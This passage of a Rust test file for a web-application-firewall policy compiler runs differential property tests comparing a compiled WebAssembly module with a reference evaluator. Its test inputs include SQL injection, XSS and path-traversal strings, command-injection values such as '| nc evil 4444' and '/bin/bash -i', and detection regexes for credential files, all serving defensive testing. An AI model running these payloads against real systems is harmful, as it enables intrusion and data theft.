//! Differential tests: the compiled, optimized policy module run in wasmtime and the
//! reference evaluator must make the same decision on every request.
//!
//! Policies: every example, every golden case that checks clean, and randomly generated
//! policies. Requests: generated from each plan's own vocabulary (its route segments, hosts,
//! countries, origins) mixed with hostile input (attack payloads in every encoding, invalid
//! UTF-8, dot segments, forged forwarding headers, oversized requests). `PROPTEST_CASES`
//! raises the number of requests for a longer local run.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;

use edgepack_bundles::request::Request;
use edgepack_compiler::eval::{self, Evaluator};
use edgepack_compiler::pipeline;
use edgepack_compiler::plan::{HostPlan, RegionPlan, SegmentPlan};
use edgepack_runtime_min::host::{HostError, PolicyEngine, PolicyInstance, Tier};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, TestRunner};

/// Compiles every region of the policy at `path`; `None` when it does not check clean.
fn compile_policy(
    path: &Path,
    engine: &PolicyEngine,
    tier: Tier,
) -> Option<Vec<(RegionPlan, PolicyInstance)>> {
    let checked = edgepack_schema::check(path).ok()?;
    let policy = checked.policy.as_ref()?;
    let plans = pipeline::plans(policy, &checked, &[]).ok()?;
    Some(
        plans
            .into_iter()
            .map(|plan| {
                let compiled = pipeline::compile(plan).expect("a clean policy compiles");
                let module = engine
                    .compile_tier(&compiled.wasm, tier)
                    .expect("the module compiles");
                assert_eq!(
                    module.tier(),
                    tier,
                    "{}: compiled at another tier",
                    path.display()
                );
                let instance = module.instantiate().expect("the module loads");
                (compiled.plan, instance)
            })
            .collect(),
    )
}

/// Decides with both, and fails with the request when they differ.
fn compare(
    plan: &RegionPlan,
    evaluator: &Evaluator<'_>,
    instance: &mut PolicyInstance,
    request: &Request,
) -> Result<(), TestCaseError> {
    let body_limit = plan.waf.as_ref().map_or(0, |w| w.body_limit);
    let reference = eval::parse(request, body_limit).map(|parsed| evaluator.eval(&parsed));
    let module = instance.decide(request);
    match (reference, module) {
        (Ok(expected), Ok(actual)) => prop_assert_eq!(
            &actual,
            &expected,
            "region {}: module and evaluator disagree on {:?}",
            plan.region,
            request
        ),
        (Err(expected), Err(HostError::Request(actual))) => prop_assert_eq!(actual, expected),
        (reference, module) => {
            return Err(TestCaseError::fail(format!(
                "region {}: evaluator {reference:?} but module {module:?} on {request:?}",
                plan.region
            )));
        }
    }
    Ok(())
}

const PAYLOADS: &[&str] = &[
    "1 union select password from users",
    "1 UNION/**/SELECT 1",
    "1' or '1'='1",
    "x\" and \"a\"=\"a",
    "'; drop table users",
    "sleep(5)",
    "BENCHMARK(1000,md5(1))",
    "waitfor delay '0:0:5'",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;svg&#x3E;",
    "&#233;&#8364;&#xD800;&#1114112;",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "; cat /etc/shadow",
    "$(id)",
    "`whoami`",
    "| nc evil 4444",
    "/bin/bash -i",
    "a  b\t\tc\n\nd",
    "nul\0byte",
    "%27%20or%201%3D1",
    "%253Cscript%253E",
    "+plus+signs+",
    "normal value",
    "ZXZhbCgxKQ==",
    "X18kJE5EX0ZVTkMkJF8=\r\nZnVuY3Rpb24gKCl7fQ==",
    "QUJD REVG",
    "QUJD  \nREVGRw",
    "Q===",
    "ÜnÏcödé",
    "./a/../b//c/./",
    "%u003cscript%U003E%uff1c%uFF5E%u12%u",
    "W\"h'o^a\\mi ;, (x) , /bin/SH\t\r\n\u{a0}end",
    "UNION/**/SELECT/*a*/1/*/b*/c*//*",
    "\\u003cimg\\x3e\\74\\101\\4012\\n\\q\\u12\\x4\\",
    "\\3c script\\00003e\\ff1c\\0000ff1c\\\nx\\41\t\\",
    "\u{ff1c}\u{1f600}\u{10ffff}\u{20ac}\u{e9}",
    "",
];

fn payload() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        6 => proptest::sample::select(PAYLOADS).prop_map(|p| p.as_bytes().to_vec()),
        2 => proptest::sample::select(PAYLOADS).prop_map(|p| percent_encode(p.as_bytes())),
        1 => proptest::sample::select(PAYLOADS)
            .prop_map(|p| percent_encode(&percent_encode(p.as_bytes()))),
        2 => proptest::collection::vec(any::<u8>(), 0..40),
        2 => "[a-zA-Z0-9 _.%&;<>=+'\"/-]{0,30}".prop_map(String::into_bytes),
        2 => "[a-fuxU0-9%\\\\ \n\u{e9}\u{ff1c}\u{1f600}]{0,24}".prop_map(String::into_bytes),
        2 => "[A-Za-z0-9+/]{0,12}={0,3}( ?\r?\n)?[A-Za-z0-9+/=]{0,8} ?".prop_map(String::into_bytes),
    ]
}

fn percent_encode(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for &b in bytes {
        if b.is_ascii_alphanumeric() {
            out.push(b);
        } else {
            out.extend_from_slice(format!("%{b:02X}").as_bytes());
        }
    }
    out
}

/// What the generator draws path segments, hosts and countries from.
#[derive(Clone, Debug)]
struct Vocabulary {
    segments: Vec<String>,
    hosts: Vec<String>,
    countries: Vec<String>,
    country_header: Option<String>,
    origins: Vec<String>,
}

fn vocabulary(plan: &RegionPlan) -> Vocabulary {
    let mut segments: Vec<String> = plan
        .routes
        .iter()
        .flat_map(|r| &r.segments)
        .filter_map(|s| match s {
            SegmentPlan::Literal(l) => Some(l.clone()),
            _ => None,
        })
        .collect();
    segments.extend(
        [
            "x", "1", "..", ".", "%2e%2e", "a%2Fb", "%00", "é", "<script>", "' or 1=1",
        ]
        .map(String::from),
    );
    let mut hosts: Vec<String> = plan
        .routes
        .iter()
        .flat_map(|r| &r.hosts)
        .map(|h| match h {
            HostPlan::Exact(e) => e.clone(),
            HostPlan::Wildcard(w) => format!("sub{w}"),
        })
        .collect();
    hosts.extend(
        [
            "localhost",
            "EXAMPLE.com:8443",
            "www.example.com",
            "example.com",
            "a.b.example.com.",
        ]
        .map(String::from),
    );
    let mut countries: Vec<String> = plan.zone_countries.iter().flatten().cloned().collect();
    if let Some(geo) = &plan.geo {
        for list in [&geo.block, &geo.allow].into_iter().flatten() {
            countries.extend(list.countries.iter().cloned());
        }
    }
    countries.extend(["BR", "kp", "XX", "D", "", "DEU", "1A"].map(String::from));
    let mut origins: Vec<String> = plan.cors.iter().flat_map(|c| c.origins.clone()).collect();
    origins.push("https://evil.example".into());
    Vocabulary {
        segments,
        hosts,
        countries,
        country_header: plan.geo.as_ref().and_then(|g| g.country_header.clone()),
        origins,
    }
}

fn request_strategy(v: Vocabulary) -> impl Strategy<Value = Request> {
    let method = proptest::sample::select(vec![
        "GET", "GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PURGE",
    ]);
    let segment = prop_oneof![
        8 => proptest::sample::select(v.segments.clone()),
        1 => "[a-z0-9]{1,6}",
    ];
    let path = (
        proptest::collection::vec(segment, 0..7),
        any::<bool>(),
        any::<bool>(),
    )
        .prop_map(|(segments, trailing, double)| {
            let mut p = String::new();
            for s in segments {
                p.push('/');
                if double {
                    p.push('/');
                }
                p.push_str(&s);
            }
            if trailing || p.is_empty() {
                p.push('/');
            }
            p
        });
    let query = proptest::collection::vec(("[a-z]{0,5}", payload()), 0..4).prop_map(|pairs| {
        let mut q = Vec::new();
        for (i, (name, value)) in pairs.into_iter().enumerate() {
            if i > 0 {
                q.push(b'&');
            }
            q.extend_from_slice(name.as_bytes());
            q.push(b'=');
            q.extend(value.into_iter().filter(|b| *b != b'&' && *b != b'#'));
        }
        q
    });
    let peer = prop_oneof![
        Just(IpAddr::V4(Ipv4Addr::LOCALHOST)),
        Just(IpAddr::V6(Ipv6Addr::LOCALHOST)),
        Just(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9))),
        Just(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 7))),
        Just(IpAddr::V4(Ipv4Addr::new(81, 2, 69, 160))),
    ];
    let forwarded = proptest::collection::vec(
        prop_oneof![
            Just("127.0.0.1".to_string()),
            Just("203.0.113.7".to_string()),
            Just("::1".to_string()),
            Just("garbage".to_string()),
            Just("89.160.20.112".to_string()),
        ],
        0..4,
    );
    let headers = (
        proptest::option::of(proptest::sample::select(v.countries.clone())),
        proptest::option::of(proptest::sample::select(v.origins.clone())),
        proptest::option::of(prop_oneof![
            Just("Bearer abc.def.ghi"),
            Just("Basic dXNlcjpw"),
            Just("bearer ")
        ]),
        proptest::option::of(("[a-z]{1,4}", payload())),
        forwarded,
        proptest::option::of(proptest::sample::select(vec![
            "GET", "POST", "PUT", "PATCH", "BREW",
        ])),
        proptest::option::of(payload()),
    );
    let body = prop_oneof![
        3 => Just((None::<&str>, Vec::new())),
        1 => payload().prop_map(|p| (Some("application/x-www-form-urlencoded"), [b"a=".as_slice(), &p, b"&b=c"].concat())),
        1 => (payload(), any::<u8>()).prop_map(|(p, n)| {
            let value = String::from_utf8_lossy(&p).replace(['"', '\\'], "");
            (Some("application/json"), format!("{{\"user\":{{\"name\":\"{value}\",\"n\":{n}}},\"tags\":[\"x\",true,null]}}").into_bytes())
        }),
        1 => (payload(), payload(), payload()).prop_map(|(name, value, file)| {
            let plain = |p: &[u8]| String::from_utf8_lossy(p).replace(['"', '\\', '\r', '\n'], "");
            let (name, file) = (plain(&name), plain(&file));
            let mut body = format!("--b0\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n").into_bytes();
            body.extend_from_slice(&value);
            body.extend_from_slice(format!("\r\n--b0\r\nContent-Disposition: form-data; name=f; filename=\"{file}\"\r\nContent-Type: {file}\r\n\r\nfile\r\n--b0--\r\n").as_bytes());
            (Some("multipart/form-data; boundary=b0"), body)
        }),
        1 => proptest::collection::vec(any::<u8>(), 0..300).prop_map(|b| (Some("text/plain"), b)),
    ];
    let host = proptest::sample::select(v.hosts.clone());
    (method, path, query, peer, headers, body, host).prop_map(
        move |(method, path, query, peer, headers, (content_type, body), host)| {
            let (country, origin, auth, cookie, forwarded, acrm, referer) = headers;
            let mut request = Request::new(method, &path).host(&host).peer(peer);
            request.query = query;
            if let (Some(country), Some(header)) = (country, &v.country_header) {
                request = request.header(header, country);
            }
            if let Some(origin) = origin {
                request = request.header("origin", origin);
            }
            if let Some(auth) = auth {
                request = request.header("authorization", auth);
            }
            if let Some((name, value)) = cookie {
                let value: Vec<u8> = value.into_iter().filter(|b| *b != b';').collect();
                request = request.header("cookie", [name.as_bytes(), b"=", &value].concat());
            }
            if !forwarded.is_empty() {
                request = request.header("x-forwarded-for", forwarded.join(", "));
            }
            if let Some(m) = acrm {
                request = request.header("access-control-request-method", m);
            }
            if let Some(r) = referer {
                request = request.header("referer", r);
            }
            if let Some(ct) = content_type {
                request = request.header("content-type", ct);
            }
            request.body(body)
        },
    )
}

fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|c| c.parse().ok())
        .unwrap_or(default)
}

fn run_policy(name: &str, regions: &mut [(RegionPlan, PolicyInstance)], cases: u32) {
    for (plan, instance) in regions.iter_mut() {
        let evaluator = Evaluator::new(plan);
        let mut runner = TestRunner::new(Config {
            cases,
            failure_persistence: None,
            ..Config::default()
        });
        let strategy = request_strategy(vocabulary(plan));
        let instance = std::cell::RefCell::new(instance);
        let result = runner.run(&strategy, |request| {
            compare(plan, &evaluator, &mut instance.borrow_mut(), &request)
        });
        if let Err(e) = result {
            panic!("{name}, region {}: {e}", plan.region);
        }
    }
}

#[test]
fn examples_agree() {
    let engine = PolicyEngine::new().expect("engine");
    // Both tiers the node serves with: the baseline compiler's and Cranelift's.
    for tier in [Tier::Quick, Tier::Optimized] {
        for policy in edgepack_tests::example_policies() {
            let mut regions = compile_policy(&policy, &engine, tier).expect("examples check clean");
            let name = format!("{} ({tier:?})", policy.display());
            run_policy(&name, &mut regions, cases(600));
        }
    }
}

#[test]
fn valid_golden_policies_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let mut compiled = 0;
    for file in edgepack_tests::kdl_files(Path::new("cases")) {
        let policy = if file.file_name().is_some_and(|n| n == "edgepack.kdl") {
            file.parent().map(Path::to_path_buf).unwrap_or(file.clone())
        } else {
            file.clone()
        };
        if let Some(mut regions) = compile_policy(&policy, &engine, Tier::Optimized) {
            compiled += 1;
            run_policy(&policy.display().to_string(), &mut regions, cases(100));
        }
    }
    assert!(compiled >= 1, "no golden case checks clean");
}

/// Hostile requests the generator rarely reaches: too many headers, segments, arguments;
/// bodies over the WAF's limit; invalid UTF-8 everywhere.
#[test]
fn hostile_requests_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let example = edgepack_tests::workspace_root().join("examples/global-api");
    let mut quick = compile_policy(&example, &engine, Tier::Quick).expect("example compiles");
    let mut regions = compile_policy(&example, &engine, Tier::Optimized).expect("example compiles");
    let mut requests = Vec::new();
    let mut many_headers = Request::new("GET", "/api/data/1");
    for i in 0..200 {
        many_headers = many_headers.header(&format!("x-{i}"), "v");
    }
    requests.push(many_headers);
    requests.push(Request::new("GET", &"/a".repeat(300)));
    requests.push(Request::new(
        "GET",
        &format!("/api/data/x?{}", "a=1&".repeat(2000)),
    ));
    requests.push(
        Request::new("POST", "/api/data/x")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(format!("q={}", "union select ".repeat(10_000))),
    );
    let mut binary = Request::new("GET", "/api/data/x");
    binary.path = vec![b'/', 0xff, 0xfe, b'/', 0x80];
    binary.query = vec![b'q', b'=', 0xc3, 0x28, b'%', 0xff];
    requests.push(
        binary
            .header("cf-ipcountry", [0xffu8, 0xfe])
            .peer(IpAddr::V4(Ipv4Addr::LOCALHOST)),
    );
    requests.push(Request::new("GET", &format!("/docs/{}", "a/".repeat(120))));
    requests.push(Request::new(
        "GET",
        &format!("/docs/{}", "%20".repeat(2000)),
    ));
    let deep_json = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    requests.push(
        Request::new("POST", "/api/data/x")
            .header("content-type", "application/json")
            .body(deep_json),
    );
    for (plan, instance) in regions.iter_mut().chain(quick.iter_mut()) {
        let evaluator = Evaluator::new(plan);
        for request in &requests {
            if let Err(e) = compare(plan, &evaluator, instance, request) {
                panic!("{e}");
            }
        }
    }
}

const REGEXES: &[&str] = &[
    r"union\s+select",
    r"(?i)<script",
    r"a+b",
    r"\.\./",
    r"\bor\b\s*1=1",
    r"[0-9]{3}",
    r"^admin$",
    r"x.*y",
    r"%[0-9a-f]{2}",
    r"\x00",
    r"é",
    r"(?i)JAVASCRIPT:",
    r"ab|cd|ef",
    r"\w+@\w+",
    r"^$",
    r"/etc/(passwd|shadow)",
    r"[<>]",
    r"\s{2,}",
];

const LITERALS: &[&str] = &[
    "../", "<", "select", "SELECT", "&amp;", "%2e", " ", "/./", "a",
];

const DECODINGS: &[&str] = &[
    "url-decode",
    "lowercase",
    "html-entity-decode",
    "normalize-path",
    "compress-whitespace",
    "remove-nulls",
    "url-decode-uni",
    "utf8-url-decode-uni",
    "js-decode",
    "css-decode",
    "cmd-line",
    "remove-whitespace",
    "normalize-path-win",
    "replace-comments",
    "base64-decode",
];

const PARTS: &[&str] = &[
    "path",
    "query",
    "args",
    "arg-names",
    "headers",
    "header:referer",
    "cookies",
    "cookie:session",
    "cookie-names",
    "header-names",
    "uri",
    "method",
    "protocol",
    "request-line",
    "query-args",
    "query-arg-names",
    "body",
    "arg:a",
    "files",
    "file-fields",
    "part-headers",
    "part-header:f",
];

fn waf_rule() -> impl Strategy<Value = String> {
    (
        proptest::sample::subsequence(PARTS, 1..4),
        proptest::collection::vec(proptest::sample::select(DECODINGS), 0..4),
        proptest::sample::subsequence(REGEXES, 0..3),
        proptest::sample::subsequence(LITERALS, 0..2),
        proptest::sample::subsequence(&["sqli", "xss"][..], 0..2),
        1u32..6,
        any::<bool>(),
    )
        .prop_map(
            |(parts, decode, regexes, literals, detectors, score, every_step)| {
                let mut rule = format!("score={score} {{ in");
                for p in parts {
                    rule.push_str(&format!(" \"{p}\""));
                }
                rule.push(';');
                if !decode.is_empty() {
                    rule.push_str(" decode");
                    for d in decode {
                        rule.push_str(&format!(" \"{d}\""));
                    }
                    if every_step {
                        rule.push_str(" every-step=#true");
                    }
                    rule.push(';');
                }
                for r in regexes {
                    rule.push_str(&format!(" regex #\"{r}\"#;"));
                }
                for l in literals {
                    rule.push_str(&format!(" literal \"{l}\";"));
                }
                for d in detectors {
                    rule.push_str(&format!(" detect \"{d}\";"));
                }
                if !rule.contains("regex") && !rule.contains("literal") && !rule.contains("detect")
                {
                    rule.push_str(" literal \"x\";");
                }
                rule.push_str(" }");
                rule
            },
        )
}

fn route() -> impl Strategy<Value = String> {
    let segment = proptest::sample::select(vec!["a", "b", "api", "x", ":p", ":q"]);
    (
        proptest::collection::vec(segment, 0..4),
        any::<bool>(),
        proptest::sample::subsequence(vec!["GET", "POST", "PUT"], 0..3),
        proptest::sample::subsequence(vec!["example.com", "*.example.com"], 0..2),
        0u8..8,
        proptest::option::of(proptest::sample::select(vec!["off", "log", "block"])),
        any::<bool>(),
        any::<bool>(),
    )
        .prop_map(
            |(segments, rest, methods, hosts, action, waf, cache, cors)| {
                let mut pattern = String::new();
                let mut seen = Vec::new();
                for s in segments {
                    let s = if s.starts_with(':') && seen.contains(&s) {
                        "z"
                    } else {
                        s
                    };
                    seen.push(s);
                    pattern.push('/');
                    pattern.push_str(s);
                }
                if rest {
                    pattern.push_str("/*");
                }
                if pattern.is_empty() {
                    pattern.push('/');
                }
                let mut body = String::new();
                if !methods.is_empty() {
                    body.push_str(&format!(
                        "methods {}; ",
                        methods
                            .iter()
                            .map(|m| format!("\"{m}\""))
                            .collect::<Vec<_>>()
                            .join(" ")
                    ));
                }
                if !hosts.is_empty() {
                    body.push_str(&format!(
                        "hosts {}; ",
                        hosts
                            .iter()
                            .map(|h| format!("\"{h}\""))
                            .collect::<Vec<_>>()
                            .join(" ")
                    ));
                }
                if let Some(mode) = waf {
                    body.push_str(&format!("waf mode=\"{mode}\"; "));
                }
                if cache {
                    body.push_str("cache ttl=\"1m\"; ");
                }
                if cors {
                    body.push_str("cors \"web\"; ");
                }
                let capture = if rest { "{*}" } else { "" };
                body.push_str(match action {
                    0 => "proxy \"app\"",
                    1 => "respond 200 body=\"ok\"",
                    2 => "block 403",
                    3 => "ratelimit \"rl\"; proxy \"app\"",
                    _ => "",
                });
                // Redirects: the request's query kept (after `?`; after `&` and before the
                // fragment when the target has both; right after a target ending in `&`),
                // or dropped.
                match action {
                    4 => body.push_str(&format!(
                        "redirect \"https://new.example/{capture}\" status=301"
                    )),
                    5 => body.push_str(&format!(
                        "redirect \"https://new.example/{capture}?from=old#top\""
                    )),
                    6 => body.push_str(&format!(
                        "redirect \"https://new.example/{capture}\" query=\"drop\""
                    )),
                    7 => body.push_str(&format!(
                        "redirect \"https://new.example/{capture}?from=old&\""
                    )),
                    _ => {}
                }
                format!("route \"{pattern}\" {{ {body} }}")
            },
        )
}

fn policy() -> impl Strategy<Value = String> {
    (
        proptest::collection::vec(route(), 1..10),
        proptest::collection::vec(waf_rule(), 0..6),
        proptest::sample::subsequence(vec!["KP", "IR", "DE", "US"], 0..3),
        any::<bool>(),
        1u32..8,
    )
        .prop_map(|(routes, rules, blocked, allow, threshold)| {
            let mut kdl = String::from(
                "edgepack 1\nzone \"EU\" { countries \"DE\" \"FR\" }\nzone \"US\" { countries \"US\" }\n\
                 region \"r-eu\" zone=\"EU\"\nregion \"r-us\" zone=\"US\"\nregion \"r-global\" zone=\"GLOBAL\"\n\
                 origin \"app\" { zone \"EU\" url=\"http://eu.internal\"; zone \"US\" url=\"http://us.internal\"; zone \"GLOBAL\" url=\"http://gl.internal\" }\n\
                 ratelimit \"rl\" key=\"client-ip\" limit=10 per=\"1s\"\n\
                 cors \"web\" { origins \"https://app.example.com\"; methods \"GET\" \"POST\" }\n\
                 residency \"EU\" { drop \"x-user-email\" }\n",
            );
            kdl.push_str("geo {\n country-header \"cf-ipcountry\"\n trusted-peers \"127.0.0.0/8\" \"::1\"\n");
            if !blocked.is_empty() {
                kdl.push_str(&format!(" block {} status=451\n", blocked.iter().map(|c| format!("\"{c}\"")).collect::<Vec<_>>().join(" ")));
            }
            if allow {
                kdl.push_str(" allow \"DE\" \"US\" \"FR\" \"BR\" status=403\n");
            }
            kdl.push_str("}\n");
            if !rules.is_empty() {
                kdl.push_str(&format!("waf threshold={threshold} body-limit=\"1KiB\" body-overflow=\"block\" {{\n"));
                for (i, rule) in rules.iter().enumerate() {
                    kdl.push_str(&format!("  rule \"r{i}\" {rule}\n"));
                }
                kdl.push_str("}\n");
            }
            for r in routes {
                kdl.push_str(&r);
                kdl.push('\n');
            }
            kdl
        })
}

#[test]
fn generated_policies_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let mut runner = TestRunner::new(Config {
        cases: cases(24).min(200),
        failure_persistence: None,
        ..Config::default()
    });
    let compiled = std::cell::Cell::new(0);
    runner
        .run(&policy(), |kdl| {
            let dir = tempdir();
            std::fs::write(dir.join("edgepack.kdl"), &kdl).expect("write policy");
            let regions = compile_policy(&dir, &engine, Tier::Optimized);
            let _ = std::fs::remove_dir_all(&dir);
            // Random routes can be ambiguous; such policies are rejected by `check`.
            let Some(mut regions) = regions else {
                return Ok(());
            };
            compiled.set(compiled.get() + 1);
            for (plan, instance) in regions.iter_mut() {
                let evaluator = Evaluator::new(plan);
                let mut inner = TestRunner::new(Config {
                    cases: 150,
                    failure_persistence: None,
                    ..Config::default()
                });
                let instance = std::cell::RefCell::new(instance);
                inner
                    .run(&request_strategy(vocabulary(plan)), |request| {
                        compare(plan, &evaluator, &mut instance.borrow_mut(), &request)
                    })
                    .map_err(|e| TestCaseError::fail(format!("{e}\npolicy:\n{kdl}")))?;
            }
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(compiled.get() > 0, "every generated policy was rejected");
}

/// A directory holding a one-region policy with `rules` in a WAF that never blocks (each
/// fired rule shows in the decision) and one route answering everything.
fn rules_policy(rules: &str) -> std::path::PathBuf {
    let kdl = format!(
        "edgepack 1\nregion \"r\" zone=\"GLOBAL\"\nwaf threshold=1000 {{\n{rules}}}\n\
         route \"/*\" {{\n    respond 200\n}}\n"
    );
    let dir = tempdir();
    std::fs::write(dir.join("edgepack.kdl"), &kdl).expect("write policy");
    dir
}

fn tempdir() -> std::path::PathBuf {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let dir = std::env::temp_dir().join(format!(
        "edgepack-diff-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// Requests made of arbitrary bytes, as a fuzzer would send them.
#[test]
fn arbitrary_requests_agree() {
    let engine = PolicyEngine::new().expect("engine");
    let example = edgepack_tests::workspace_root().join("examples/global-api");
    let mut regions = compile_policy(&example, &engine, Tier::Optimized).expect("example compiles");
    let bytes = || proptest::collection::vec(any::<u8>(), 0..64);
    let strategy = (
        "[A-Z]{0,8}",
        bytes(),
        bytes(),
        bytes(),
        proptest::collection::vec((bytes(), bytes()), 0..6),
        proptest::collection::vec(any::<u8>(), 0..512),
        any::<[u8; 16]>(),
    )
        .prop_map(|(method, path, query, host, headers, body, peer)| {
            let mut request = Request::new(&method, "/");
            request.path = path;
            request.query = query;
            request.host = host;
            request.headers = headers
                .into_iter()
                .map(|(n, v)| (n.to_ascii_lowercase(), v))
                .collect();
            request.body = body;
            request.peer = IpAddr::V6(Ipv6Addr::from(peer));
            request
        });
    for (plan, instance) in regions.iter_mut() {
        let evaluator = Evaluator::new(plan);
        let instance = std::cell::RefCell::new(instance);
        TestRunner::new(Config {
            cases: cases(300),
            failure_persistence: None,
            ..Config::default()
        })
        .run(&strategy, |request| {
            compare(plan, &evaluator, &mut instance.borrow_mut(), &request)
        })
        .unwrap_or_else(|e| panic!("region {}: {e}", plan.region));
    }
}

/// Every decoding, run by the module, gives exactly the reference's bytes: for each input,
/// a rule whose pattern is the reference output spelled byte by byte must fire, and fire
/// alone among rules written for the other inputs.
#[test]
fn decodings_match_the_reference_byte_for_byte() {
    use edgepack_compiler::plan::DecodingPlan;
    let engine = PolicyEngine::new().expect("engine");
    let mut runner = TestRunner::new(Config {
        failure_persistence: None,
        ..Config::default()
    });
    let mut inputs: Vec<Vec<u8>> = PAYLOADS.iter().map(|p| p.as_bytes().to_vec()).collect();
    for _ in 0..40 {
        let tree = payload()
            .new_tree(&mut runner)
            .expect("a generated payload");
        inputs.push(tree.current());
    }
    // Decoders read plain text eight bytes at a time: what needs decoding at every offset
    // of a word, and words of plain text between.
    for shift in 0..9 {
        let mut input = "a".repeat(shift).into_bytes();
        input.extend_from_slice("plain+text+%41%u0042+\u{dc}n\u{cf}+%zz+%2".as_bytes());
        input.extend_from_slice(&[0xC3, b'+', 0x80, 0xFF]);
        input.extend_from_slice(b"+tail+of+the+value+%");
        inputs.push(input);
    }
    use DecodingPlan::*;
    let decodings: [(&str, &[DecodingPlan]); 14] = [
        ("url-decode", &[UrlDecode]),
        ("url-decode-uni", &[UrlDecodeUni]),
        ("utf8-url-decode-uni", &[Utf8UrlDecodeUni]),
        ("js-decode", &[JsDecode]),
        ("css-decode", &[CssDecode]),
        ("cmd-line", &[CmdLine]),
        ("remove-whitespace", &[RemoveWhitespace]),
        ("replace-comments", &[ReplaceComments]),
        ("normalize-path-win", &[BackslashToSlash, NormalizePath]),
        ("html-entity-decode", &[HtmlEntityDecode]),
        ("normalize-path", &[NormalizePath]),
        ("compress-whitespace", &[CompressWhitespace]),
        ("remove-nulls", &[RemoveNulls]),
        ("base64-decode", &[Base64Decode]),
    ];
    for (name, plan_decoding) in decodings {
        let expected: Vec<Vec<u8>> = inputs
            .iter()
            .map(|i| edgepack_compiler::decodings::apply(plan_decoding, i))
            .collect();
        let mut kdl = String::from(
            "edgepack 1\nregion \"r\" zone=\"GLOBAL\"\nwaf threshold=1 body-limit=\"64KiB\" {\n",
        );
        for (i, bytes) in expected.iter().enumerate() {
            let exact: String = bytes.iter().map(|b| format!("\\x{b:02x}")).collect();
            kdl.push_str(&format!(
                "    rule \"r{i}\" score=1 {{ in \"body\"; decode \"{name}\"; regex #\"^{exact}$\"#; }}\n"
            ));
        }
        kdl.push_str("}\nroute \"/*\" {\n    respond 200\n}\n");
        let dir = tempdir();
        std::fs::write(dir.join("edgepack.kdl"), &kdl).expect("write policy");
        let mut regions =
            compile_policy(&dir, &engine, Tier::Optimized).expect("the decoding policy compiles");
        let _ = std::fs::remove_dir_all(&dir);
        let (plan, instance) = &mut regions[0];
        for (i, input) in inputs.iter().enumerate() {
            let request = Request::new("POST", "/x")
                .header("content-type", "application/octet-stream")
                .body(input.clone());
            let decision = instance.decide(&request).expect("a decision");
            // Inputs with the same output fire each other's rules: all must be among them.
            let wanted: Vec<u32> = expected
                .iter()
                .enumerate()
                .filter(|(_, e)| **e == expected[i])
                .map(|(k, _)| plan.waf.as_ref().expect("waf").rules[k].id)
                .collect();
            assert_eq!(
                decision.rules,
                wanted,
                "{name} of {:?}: the module's output differs from {:?}",
                String::from_utf8_lossy(input),
                String::from_utf8_lossy(&expected[i])
            );
        }
    }
}

/// A pattern too large for one automaton runs as a sequence (the head's DFA marks where it
/// ends, a set of tail runs starts there; in three stages, a set of middle runs starts
/// there and tail runs where they end): on both compiler tiers, the module fires exactly
/// when the reference evaluator's regex engine matches, folded to lower case or not, also
/// where the head passes over blocks of bytes in its loop state.
#[test]
fn sequence_patterns_agree() {
    let mut words: Vec<String> = (0..300).map(|i| format!("fn{i}x{}", i * 7)).collect();
    words.extend(["system", "exec", "popen"].map(String::from));
    sequence_agrees(
        &format!(r"\b(?:{})(?:\s|/\*.*\*/|//.*|#.*)*\(.*\)", words.join("|")),
        512,
        2,
        &[
            "system(1)",
            "xsystem(1)",
            "a;system /*c*/ (ls)",
            "exec #x\n()",
            "EXEC(1)",
            "fn12x84 ( )",
            "fn12x8 ( )",
            "system(",
        ],
        &[
            "system", "exec", "fn3x21", "x", " ", "(", ")", "/*", "*/", "//", "#", "\n", ";", "é",
            "SYS", "tem", "%28",
        ],
    );
    // Shaped like CRS 932100: a separator, assignments whose values run to any later
    // blank, then a word list.
    let words: Vec<String> = (0..300).map(|i| format!("w{i}x{}", i * 7)).collect();
    sequence_agrees(
        &format!(
            r#"(?s)(?:;|\||&|\$\(|`)\s*(?:\{{|\s*\(\s*|\w+=(?:[^\s]*|\$.*|<.*|'.*'|".*")\s+|!\s*|\$)*\s*['"]*(?:[\w'"./\\]+/)?['"\\]*(?:{})\b"#,
            words.join("|")
        ),
        256,
        3,
        &[
            ";w1x7",
            "; a=1 b=$x y w1x7 /etc",
            "; a='q w1x7'",
            "; a='q' W1X7",
            "|x=\"1 2\" w3x21",
            "$(a=<b c w3x21)",
        ],
        &[
            ";", "|", "&", "$(", "`", " ", "a=", "B=", "$", "<", "'", "\"", "x", "/bin/", "\\",
            "w1x7", "W2X14", "w3x2", "w3x21", "!", "(", "{", "\n", "%3B",
        ],
    );
}

/// Checks one sequence pattern of `stages` stages at a budget of `budget_kib` KiB on both
/// tiers, on `texts` and token soups from a fixed generator (so failures reproduce).
fn sequence_agrees(pattern: &str, budget_kib: u64, stages: usize, texts: &[&str], tokens: &[&str]) {
    let engine = PolicyEngine::new().expect("engine");
    match edgepack_schema::waf_regex::check_pattern(pattern, budget_kib << 10) {
        Ok(edgepack_schema::waf_regex::Shape::Sequence { stages: cut }) => {
            assert_eq!(
                cut.len(),
                stages,
                "the test would not reach {stages} stages"
            )
        }
        other => panic!("the pattern should need a sequence: {other:?}"),
    }
    let kdl = format!(
